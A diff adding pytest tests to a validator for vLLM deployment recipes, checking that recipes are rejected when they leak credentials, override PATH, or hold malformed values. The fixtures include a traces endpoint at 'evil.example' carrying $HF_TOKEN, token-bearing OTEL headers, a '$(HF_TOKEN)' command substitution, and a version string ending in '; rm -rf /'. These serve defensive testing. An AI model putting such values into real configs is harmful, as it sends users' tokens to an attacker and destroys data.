@@ -128,3 +128,88 @@ def test_recipe_ids_that_differ_only_in_case_build_once(tmp_path):
     (err,) = [e for e in summary["errors"] if "letter case" in e.message]
     assert err.file == "models/meta-llama/Llama-3.3-70B-Instruct.yaml" and "'Meta-Llama/Llama-3.3-70B-Instruct'" in err.message
     assert summary["recipes"] == 3
+
+
+# --- the second pass (issue 23's attack set re-run on the fixes) -------------------
+
+LLAMA = "meta-llama/Llama-3.3-70B-Instruct"
+
+
+@pytest.mark.parametrize("rel, edit, key", [
+    (f"models/{LLAMA}.yaml", lambda d: d["model"].setdefault("base_args", []).extend(
+        ["--otlp-traces-endpoint", "http://evil.example/$HF_TOKEN"]), "model.base_args"),
+    (f"models/{LLAMA}.yaml", lambda d: d["model"].setdefault("base_env", {}).update(
+        OTEL_EXPORTER_OTLP_HEADERS="x=${HF_TOKEN}"), "model.base_env.OTEL_EXPORTER_OTLP_HEADERS"),
+    (f"models/{LLAMA}.yaml", lambda d: d["model"].setdefault("base_args", []).extend(
+        ["--served-model-name", "m-$(HF_TOKEN)"]), "model.base_args"),
+    ("strategies/multi_node_tp.yaml", lambda d: d.setdefault("env", {}).update(X="$HUGGING_FACE_HUB_TOKEN"), "env.X"),
+    ("taxonomy.yaml", lambda d: d["kv_offload"]["simple"].setdefault("env", {}).update(X="$HF_TOKEN"),
+     "kv_offload.simple.env.X"),
+])
+def test_no_recipe_text_may_pass_the_hf_token_anywhere(tmp_path, rel, edit, key):
+    """A recipe could send the person's HF_TOKEN to its own host in every form
+    (the Kubernetes form took it from the Secret); vLLM reads it itself."""
+    errs = [e for e in _problems(_recipes(tmp_path, rel, edit)) if e.file == rel and e.key == key]
+    assert errs and "a credential" in errs[0].message and errs[0].level == "error", errs
+
+
+@pytest.mark.parametrize("role", ["prefill", "decode"])
+def test_a_p_d_roles_env_cannot_set_a_platform_name(tmp_path, role):
+    errs = _problems(_recipes(tmp_path, "strategies/pd_cluster.yaml",
+                              lambda d: d[role].setdefault("env", {}).update(PATH="/nonexistent")))
+    assert any(e.file == "strategies/pd_cluster.yaml" and e.key == f"{role}.env.PATH" and "must not set it" in e.message
+               for e in errs), errs
+
+
+def test_a_features_companion_that_is_not_shell_words_is_a_recipe_error(tmp_path):
+    def edit(d):
+        fid = next(iter(d["features"]))
+        d["features"][fid]["companion"] = {"label": "x", "command": "helper 'unbalanced"}
+    errs = _problems(_recipes(tmp_path, f"models/{LLAMA}.yaml", edit))
+    assert any(e.key.endswith(".companion.command") and e.level == "error" for e in errs), errs
+
+
+@pytest.mark.parametrize("rid", ["acme/index.html", "acme2/INDEX.HTML", f"{LLAMA}.json"])
+def test_a_repo_name_that_names_a_site_file_is_skipped(tmp_path, rid):
+    recipes = _recipes(tmp_path)
+    target = recipes / "models" / f"{rid}.yaml"
+    target.parent.mkdir(parents=True, exist_ok=True)
+    shutil.copy(recipes / "models" / f"{LLAMA}.yaml", target)
+    summary = build.build(recipes, tmp_path / "site", keep_going=True, neighbours=0, precompress=False)
+    assert [e.file for e in summary["errors"] if "names a file of the site" in e.message] == [f"models/{rid}.yaml"]
+    assert summary["recipes"] == 3 and (tmp_path / "site" / f"{LLAMA}.json").is_file()
+
+
+def test_our_leftover_keeps_its_marker_until_last(tmp_path, monkeypatch):
+    """A kill while the old site was removed could take the marker first, and
+    the next build never cleaned the rest (5 of 24 timed kills)."""
+    old = tmp_path / ".build-old"
+    (old / "a" / "b").mkdir(parents=True)
+    (old / "a" / "b" / "f.txt").write_text("x")
+    (old / build.SITE_MARKER).write_text("")
+    calls = []
+    real = shutil.rmtree
+
+    def killed(path, *a, **k):  # the process dies at the first removal
+        calls.append(Path(path))
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(build.shutil, "rmtree", killed)
+    with pytest.raises(KeyboardInterrupt):
+        build._remove_marked(old)
+    assert calls == [old / "a"] and (old / build.SITE_MARKER).exists()
+    monkeypatch.setattr(build.shutil, "rmtree", real)
+    build._remove_stale_builds(tmp_path)
+    assert not old.exists()
+
+
+@pytest.mark.parametrize("rel, edit, key, level", [
+    (STORE, lambda d: d["pd"].__setitem__("prefil", d["pd"].pop("prefill")), "pd.prefil", "warning"),
+    (STORE, lambda d: d.__setitem__("min_vllm_version", "0.21.0; rm -rf /"), "min_vllm_version", "error"),
+    (STORE, lambda d: d["vllm"]["env"].__setitem__("PYTHONHASHSEED", {"a": "b"}), "vllm.env.PYTHONHASHSEED", "error"),
+    (f"models/{LLAMA}.yaml", lambda d: d.setdefault("strategy_overrides", {}).setdefault("pd_cluster", {}).__setitem__(
+        "router", {"polcy": "round_robin"}), "strategy_overrides.pd_cluster.router.polcy", "warning"),
+])
+def test_free_form_values_that_would_vanish_or_mislead_are_said(tmp_path, rel, edit, key, level):
+    errs = [e for e in _problems(_recipes(tmp_path, rel, edit)) if e.file == rel and e.key == key]
+    assert errs and errs[0].level == level, errs
